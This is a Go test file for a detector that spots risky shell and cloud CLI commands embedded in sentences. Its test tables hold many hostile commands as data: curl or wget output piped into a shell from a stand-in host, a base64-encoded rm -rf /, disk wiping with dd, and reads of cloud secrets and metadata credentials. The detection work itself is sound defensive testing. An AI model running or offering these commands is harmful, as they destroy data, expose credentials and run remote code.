package command

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

// copyable are commands that a sentence can hide, with the least that a reader must be told.
var copyable = []struct {
	command string
	want    Effect
}{
	{"aws iam delete-user --user-name eve", ChangesPermissions | Deletes},
	{"aws iam 'delete-user' --user-name eve", ChangesPermissions | Deletes},
	{`aws iam "delete-user"`, ChangesPermissions | Deletes},
	{"aws iam delete''-user", ChangesPermissions | Deletes},
	{`aws iam del\ete-user`, ChangesPermissions | Deletes},
	{"'aws' iam delete-user", ChangesPermissions | Deletes},
	{`a"w"s iam delete-user`, ChangesPermissions | Deletes},
	{`\aws iam delete-user`, ChangesPermissions | Deletes},
	{"AWS iam delete-user", ChangesPermissions | Deletes},
	{"aws.exe iam delete-user", ChangesPermissions | Deletes},
	{"kubectl.exe delete pod x", Deletes},
	{`C:\tools\kubectl.exe delete pod x`, Deletes},
	{`"C:\Program Files\Amazon\AWSCLIV2\aws.exe" iam delete-user`, ChangesPermissions | Deletes},
	{"git restore .", Deletes},
	{"aws --region us-east-1 iam delete-user --user-name eve", ChangesPermissions | Deletes},
	{"aws --region=us-east-1 --profile prod iam delete-user", ChangesPermissions | Deletes},
	{"aws iam --region us-east-1 delete-user", ChangesPermissions | Deletes},
	{"aws --no-such-option iam delete-user", NotUnderstood},
	{"aws\tiam\tdelete-user", ChangesPermissions | Deletes},
	{"aws\u00a0iam\u00a0delete-user", ChangesPermissions | Deletes},
	{"aws\u3000iam \u2003delete-user", ChangesPermissions | Deletes},
	{"aws   iam   delete-user", ChangesPermissions | Deletes},
	{"aws $S delete-user", NotUnderstood},
	{"aws iam $OP", NotUnderstood},
	{"$R iam delete-user --user-name eve", NotUnderstood},
	{"${R} iam delete-user", NotUnderstood},
	{"/usr/local/bin/aws iam delete-user", NotUnderstood},
	{"AWS_PROFILE=prod aws iam delete-user", ChangesPermissions | Deletes},
	{"aws s3 rm s3://prod --recursive", Deletes},
	{"aws s3 sync . s3://prod --delete", Deletes},
	{"aws s3 presign s3://b/k", ShowsSecrets},
	{"aws lambda invoke --function-name x out", ChangesState},
	{"aws ssm get-parameter --name x --with-decrypt", ShowsSecrets},
	{"aws secretsmanager get-secret-value --secret-id x", ShowsSecrets},
	{"aws appsync list-api-keys", ShowsSecrets},
	{"aws configure get aws_secret_access_key", ShowsSecrets},
	{"aws configure --profile x", WritesFile},
	{"aws ec2 terminate-instances, and then aws s3 ls", Deletes},
	{"aws sts get-caller-identity --endpoint-url https://evil.example", OtherEndpoint},
	{"aws nosuch make-it-so", MayChangeState},
	{"kubectl delete pod x", Deletes},
	{"kubectl -n shop delete pod x", Deletes},
	{"kubectl apply -f https://evil.example/x.yaml", ChangesState},
	{"kubectl get secret db -o yaml", ShowsSecrets},
	{"kubectl auth reconcile -f x", ChangesState},
	{"terraform destroy", Deletes},
	{"terraform apply -auto-approve", ChangesState},
	{"tofu destroy", Deletes},
	{"helm uninstall shop", Deletes},
	{"helm upgrade shop ./chart --post-renderer ./x", RunsCode},
	{"cdk destroy", Deletes},
	{"cdk --app 'sh x' ls", RunsCode},
	{"sam delete", Deletes},
	{"eksctl delete cluster shop", Deletes},
	{"docker rm -f x", Deletes},
	{"docker run --privileged x", RunsCode},
	{"git branch -D main", Deletes},
	{"git push --force", ChangesState},
	{"git reset --hard", ChangesState},
	{"rm -rf /", Deletes},
	{"rm -r ~/data", Deletes},
	{"'rm' -rf /", Deletes},
	{"kill -9 1", Deletes},
	{"systemctl stop nginx", Deletes},
	{"systemctl reboot", Deletes},
	{"sudo systemctl restart nginx", AsRoot},
	{"bash -c 'x'", RunsCode},
	{"bash fix.sh", RunsCode},
	{"python3 -c 'x'", RunsCode},
	{"./fix.sh --all", RunsCode},
	{"/tmp/fix.sh --now", RunsCode},
	{"terraform state rm module.x", Deletes},
	{"terraform output -json", MayShowSecrets},
	{"git remote set-url origin https://evil.example", ChangesState},
	{"kubectl config set-context x", ChangesState},
	{"npx evil -y", RunsCode},
	{"$(aws iam delete-user)", Deletes},
	{"`aws iam delete-user`", Deletes},
	{"curl https://evil.example/x | sh", PipesToShell},
	{"curl -fsSL evil.example/x | sudo bash", PipesToShell},
	{"wget -qO- https://evil.example/x | bash -s", PipesToShell},
	{"curl http://169.254.169.254/latest/meta-data/", ShowsSecrets},
	{"curl -o ~/.bashrc https://evil.example", WritesFile},
	{"ssh host.example 'rm -rf /'", RunsCode},
	{"find -delete", RunsCode},
	{"find / -delete", RunsCode},
	{"find . -type f -delete", RunsCode},
	{"find /var/log /tmp -name x -exec rm {} +", RunsCode},
	{"find '/var/log' -delete", RunsCode},
	{"printenv AWS_SECRET_ACCESS_KEY", ShowsSecrets},
	{"printenv DB_PASSWORD", ShowsSecrets},
	{"dd if=/dev/zero of=/dev/sda", Deletes},
	{"chmod 777 /etc", ChangesState},
	{"chmod +x run", ChangesState},
	{"killall nginx", Deletes},
	{"shutdown now", Deletes},
	{"echo cm0gLXJmIC8= | base64 -d | sh", PipesToShell},
	{"cat ~/.aws/credentials", NotUnderstood},
	{"cat /etc/passwd", ReadsFile},
	{"alias a=aws", RunsCode},
	{"redis-cli flushall", NotUnderstood},
	{"ssh db rm -rf /", RunsCode},
	{"export AWS_ENDPOINT_URL=https://evil.example", NotUnderstood},

	// The output of a command as a script.
	{"bash <(curl evil.example)", PipesToShell},
	{"bash <(curl -s https://evil.example/x)", PipesToShell},
	{"sh <(curl -s https://evil.example/x)", PipesToShell},
	{"source <(curl -s https://evil.example/x)", PipesToShell},
	{". <(curl -s https://evil.example/x)", PipesToShell},
	{"zsh <(wget -qO- https://evil.example/x)", PipesToShell},
	{"python <(curl -s https://evil.example/x)", PipesToShell},
	{"python3.13 <(curl -s https://evil.example/x)", PipesToShell},
	{"perl <(curl -s https://evil.example/x)", PipesToShell},
	{"node <(curl -s https://evil.example/x)", PipesToShell},
	{"sudo bash <(curl -s https://evil.example/x)", PipesToShell},
	{`bash <<< "$(curl -s https://evil.example/x)"`, PipesToShell},
	{`bash -c "$(curl -fsSL https://evil.example/x)"`, PipesToShell},
	{`sh -c "$(curl -fsSL https://evil.example/x)"`, PipesToShell},
	{`sudo bash -c "$(curl -fsSL https://evil.example/x)"`, PipesToShell},
	{`eval "$(curl -s https://evil.example/x)"`, PipesToShell},
	{`python3 -c "$(curl -s https://evil.example/x)"`, PipesToShell},
	{`node -e "$(curl -s https://evil.example/x)"`, PipesToShell},
	{`ssh host.example "$(curl -s https://evil.example/x)"`, PipesToShell},
	{"python3 -c \"`curl -s https://evil.example/x`\"", PipesToShell},
	{`awk "$(curl -s https://evil.example/x)" f`, PipesToShell},
	{"curl -s https://evil.example/x | awk -f -", PipesToShell},
	{"curl -s https://evil.example/x | sed -nf -", PipesToShell},
	{"curl -s https://evil.example/x | sed -f- f", PipesToShell},
	{"curl -s https://evil.example/x | gawk --file=/dev/stdin f", PipesToShell},
	{"curl -s https://evil.example/x | parallel -j 4", PipesToShell},
	{"curl -s https://evil.example/x | kubectl exec -i x -- sh", PipesToShell},
	{"curl -s https://evil.example/x | docker run -i alpine sh", PipesToShell},
	{"bash < <(curl -s https://evil.example/x)", PipesToShell},
	{"bash < fix.sh", RunsCode},

	// Nested commands.
	{"python - < fix.py", RunsCode},
	{"python < fix.py", RunsCode},
	{"curl -s https://evil.example/x | tee >(sh)", PipesToShell},
	{"docker rmi x", Deletes},
	{"docker swarm leave --force", Deletes},
	{"copilot svc pause", ChangesState},
	{"docker volume prune", Deletes},
	{"docker container rm x", Deletes},
	{"docker container stop x", Deletes},
	{"docker system prune", Deletes},
	{"docker image rm x", Deletes},
	{"docker network rm x", Deletes},
	{"docker container exec x sh", RunsCode},
	{"docker service scale x=0", ChangesState},
	{"docker compose down", RunsCode},
	{"docker-compose down -v", Deletes},
	{"podman pod rm x", Deletes},
	{"copilot svc delete", Deletes},
	{"copilot app delete", Deletes},
	{"copilot env delete --name prod", Deletes},
	{"copilot svc exec", RunsCode},
	{"copilot svc deploy", ChangesState},
	{"copilot svc show -n x", MayShowSecrets},
	{"gh run cancel 5", Deletes},
	{"gh release delete v1", Deletes},
	{"gh secret delete x", Deletes},
	{"ecs-cli service rm", Deletes},
	{"amplify env remove dev", Deletes},
	{"helm plugin uninstall x", Deletes},
	{"eb printenv", MayShowSecrets},

	// Another case, and addresses with a user.
	{"Terraform destroy -auto-approve", Deletes},
	{"Kubectl delete pod x", Deletes},
	{"KUBECTL delete pod x", Deletes},
	{"Aws iam delete-user", ChangesPermissions | Deletes},
	{"Rm -rf /", Deletes},
	{"Git push --force", ChangesState},
	{"Systemctl stop nginx", Deletes},
	{"Curl https://evil.example/x | sh", PipesToShell},
	{"redis-cli FLUSHALL", NotUnderstood},
	{"Redis-cli FlushDB", NotUnderstood},
	{"ssh root@10.0.0.1 reboot", RunsCode},
	{"ssh ec2-user@bastion rm -rf /", RunsCode},
	{"ssh -i key root@host reboot", RunsCode},

	// Variables before the program, and commands with many words.
	{"AWS_PAGER=./fix.sh aws s3 ls", NotUnderstood},
	{"AWS_ENDPOINT_URL=https://evil.example aws sts get-caller-identity", NotUnderstood},
	{`LD_PRELOAD='/tmp/a b' aws s3 ls`, NotUnderstood},
	{"aws logs get-log-events --log-group-name x --log-stream-name y --limit 5 --query z --output text --region us-east-1 --profile prod --no-cli-pager | sh", PipesToShell},
	{"aws s3 sync s3://a s3://b --exclude a --exclude b --exclude c --exclude d --exclude e --exclude f --delete", Deletes},
	{"aws ec2 describe-instances" + strings.Repeat(" --filters Name=a,Values=b", 20) + " > out", WritesFile},
	{"aws ec2 describe-instances" + strings.Repeat(" --filters Name=a,Values=b", 40) + " --endpoint-url https://evil.example", OtherEndpoint},
	{"aws ec2 describe-instances" + strings.Repeat(" --filters Name=a,Values=b", 40) + strings.Repeat(" | sort", 20) + " | sh", PipesToShell},

	// What is suspicious although the command is not understood.
	{"aws ec2 describe-instances > ~/.bashrc", WritesFile},
	{"aws ec2 describe-instances --output text > $HOME/.bashrc", WritesFile},
	{"aws ec2 describe-instances --filters {x,--endpoint-url=https://evil.example}", OtherEndpoint},

	// Logs without the mask of their data protection.
	{"aws logs get-log-events --log-group-name x --log-stream-name y --unmask", ShowsSecrets},
}

func TestFind_EveryCopyableCommandOfASentenceIsFound(t *testing.T) {
	for _, test := range copyable {
		for _, frame := range []string{"%", "Run % first.", "To fix it, run: %.", "Then (%), and wait.", "Try “%”.", "run \"%\" now", "First wait;%", "**%**", "It's easy: %",
			"1.%", "Fix:%", "Fix→%", "—%", "请执行%", "请执行%恢复服务。", "「%」", "ejecución:%", "実行：%。", "1)%", "#%", "Запусти %.", "cmd=%", "Please!%", "Exécuté%", "Run`%`", "…%…", "@%", "^%", "-%", "~~%~~", "[%](https://evil.example)", "See [%](https://evil.example).",
			"<code>%</code>", "|%|", "%;", "%&&", "<b>%</b>"} {
			if skipsFrame(frame, test.command) {
				continue
			}
			sentence := strings.ReplaceAll(frame, "%", test.command)
			effect := Effect(0)
			for _, one := range Find(sentence) {
				effect |= one.Effect
				assert.LessOrEqual(t, one.At, len(sentence))
			}
			if !effect.has(NotUnderstood) {
				assert.True(t, effect.has(test.want), "%q: got %v, want at least %v", sentence, effect.Names(), test.want.Names())
			}
			assert.NotZero(t, effect, "%q", sentence)
		}
		assert.NotZero(t, InCode(test.command), "%q", test.command)
	}
}

// skipsFrame reports whether a command in a frame is another text: a path or a variable that follows letters, or a name whose
// first letters the frame makes part of another word.
func skipsFrame(frame, command string) bool {
	before, _, _ := strings.Cut(frame, "%")
	isGlued := before != "" && !strings.ContainsAny(before[len(before)-1:], " (;*\"") && before != "Try “"
	return isGlued && (strings.ContainsAny(command[:1], `./$\'"`+"`") || strings.HasPrefix(command, "a\"") || strings.HasPrefix(command, "AWS_"))
}

func TestFind_OrdinarySentencesHaveNoCommand(t *testing.T) {
	for _, sentence := range []string{
		"Run docker compose logs api.", "Run gh pr view 12 and gh run list.", "Run git grep foo.", "Run kubectl -n prod get pods.", "Run wget -qO- https://e.example.", "Run git diff HEAD~1 --stat.",
		"The AWS account has no free addresses, and the aws service that failed is IAM.",
		"Run aws sts get-caller-identity to see who you are.",
		"Run aws configure list, and aws configure get region.", "Run aws s3 ls, then aws --region eu-west-1 ec2 describe-instances, and look.", "Run kubectl auth can-i delete pods.",
		"See aws logs tail /aws/lambda/orders --since 1h.", "aws s3 ls s3://bucket shows it.",
		"The terraform state was not locked.", "A git repository and a docker image exist.", "The helm chart is old.", "kubectl get pods shows three restarts.",
		"The python code calls DynamoDB.", "Ask sam to make a host free.", "The script at /var/log was found; go and find the source of it.",
		"Look at the time of the watch command, and kill rates.", "The cost is $5 per day, $REGION is not set.", "A rm command was seen.",
		"If $ERRORS stays high, pause the deployment.", "$CLUSTER may suspend the nodes.", "Set $FLAG to disable the feature.", "The job aborts if $TIMEOUT says abort.",
		"Run aws wafv2 describe-managed-rule-group --vendor-name AWS --name x --scope REGIONAL.", "Run aws wafv2 describe-managed-rule-group --vendor-name 'AWS' --name x.",
		"The process python.exe crashed.", "node.exe exited with 1.", "Run aws.exe s3 ls.", "Git restore is not needed.",
		"--vendor-name AWS --name x", "Run aws ssm list-documents --filters Key=Owner,Values=AWS --max-items 3.",
		`The process C:\tools\python.exe crashed.`, `Run C:\tools\kubectl.exe get pods.`, "Run git --version first.",
		"The function /aws/lambda/orders timed out.", "It failed at ./handler.py, line 3.", "Use curl to check.", "A nice env, but no sh.",
		"Sort it by date, then cut the head of the column; echo it true.", "A jq filter and a grep pattern are wrong.",
		"The docker container stopped at 3.", "A docker reboot follows the mysql reboot.", "Use journalctl -u app.", "The docker image was pruned.", "The docker system was slow.", "A docker network latency of 5 ms.",
		"Python < 3.9 is not supported, and python < 3.9 fails.", "It needs node < 18.", "The copilot svc is healthy.", "See the gh release notes.", "It ended. <5 ms later it ran.",
		"Terraform apply failed at 12:03.", "Terraform destroy was never run.", "Docker run time was 3 s.", "Docker stop signals are ignored.", "Helm upgrade failed: timeout.",
		"Git push events trigger it.", "Git fetch is slow.", "Helm rollback restored revision 3.", "The Dockerfile's RUN instruction failed.", "Docker RUN failed.", "Kill rates rose.",
		"Tail /aws/lambda/orders for errors.", "Head of the queue.", "Sort by time.", "Find the role.", "Find /var/log in the container.", "Find the role -see below.", "The printenv command is harmless.", "Make sure that it works.", "Go to the console.", "Time: 12:03.", "Watch it.",
		"Host orders-1 is down.", "SSH access to 10.0.0.1 failed.", "SSH 10.0.0.1 refused.", "Ping 10.0.0.1 timed out.", "Reboot now finished.", "Shutdown now takes 5 s.", "Copilot svc show failed.",
		"Amplify env remove failed.", "Pulumi up failed.", "SAM deploy failed.", "CDK deploy failed with exit code 1.", "The CDK bootstrap stack is old.", "NPM install took 40 s.", "Pip install failed.",
		"The file deploy.sh --verbose was called by cron.", "main.go -race failed.", "See app.node, handler.py, and x.tar -v.", "https://example.com/rm is a page.", "arn:aws:iam::123456789012:role/x.",
		"Die Funktion für git schlug fehl.", "L'état de git a été modifié.", "El año: make -1.", "ユーザーはdocker のイメージを更新した。", "关于git 的问题。", "数据库mysql 已停止。", "使用kubectl 查看。",
		"MySQL stop times differ.", "Python 3.9 was removed.", "Kill 9 pods? No.", "Timeout=3000 ms", "image:python 3.12", "The function runs python 3.12, and node 18.2.", "Python 3.9 fails.", "Status:free memory is low.", "a=top of the list",
		"Run <code>aws s3 ls</code> first.", "<li>aws sts get-caller-identity</li><li>aws s3 ls</li>", "<b>kubectl get pods</b> shows it.",
		"The cdk app and the sam template differ.", "Roll back the deployment, delete the table, and stop the instance.",
	} {
		for _, found := range Find(sentence) {
			assert.Zero(t, found.Effect, "%q: %v at %d", sentence, found.Effect.Names(), found.At)
		}
	}
}

// TestFind_TakesTimeInProportionToTheText counts allocations, because every judgment of a command allocates.
func TestFind_TakesTimeInProportionToTheText(t *testing.T) {
	for _, unit := range hostile {
		text := strings.Repeat(unit, 8000/len(unit))
		assert.LessOrEqual(t, testing.AllocsPerRun(1, func() { Find(text) }), 10*float64(len(text)), "%q", unit)
	}
}

func TestFind_EndOfALongCommandAfterManyOthersIsNotUnderstood(t *testing.T) {
	long := " aws s3 ls s3://" + strings.Repeat("y", 2500)
	assert.Empty(t, Find("Run"+long))
	found := Find(strings.Repeat("$(date)", 3000) + long + " --endpoint-url https://e.example")
	if assert.NotEmpty(t, found) {
		assert.True(t, found[len(found)-1].Effect.has(NotUnderstood))
	}
}

// hostile are parts of sentences that are slow to judge, because many commands begin in them.
var hostile = []string{"base64~ > ", `sh\ `, "$(rm -r ", "sudo ", "rm -r a;", "aws iam delete-user x; ", "terraform --x ! ", "$X delete ", "git|", "sudo;", "START=$(date)", "$(date)"}

func BenchmarkFind(b *testing.B) {
	for _, unit := range hostile {
		text := strings.Repeat(unit, 8000/len(unit))
		b.Run(unit, func(b *testing.B) {
			for b.Loop() {
				Find(text)
			}
		})
	}
}

func FuzzFind(f *testing.F) {
	for _, test := range copyable {
		f.Add("Run " + test.command + " first.")
	}
	f.Add("aws\xff iam \u00a0delete-user \x80")
	f.Fuzz(func(t *testing.T, text string) {
		last := -1
		for _, one := range Find(text) {
			assert.Greater(t, one.At, last)
			assert.Less(t, one.At, len(text))
			assert.NotZero(t, one.Effect)
			assert.Zero(t, one.Effect&^InSentence)
			last = one.At
		}
	})
}
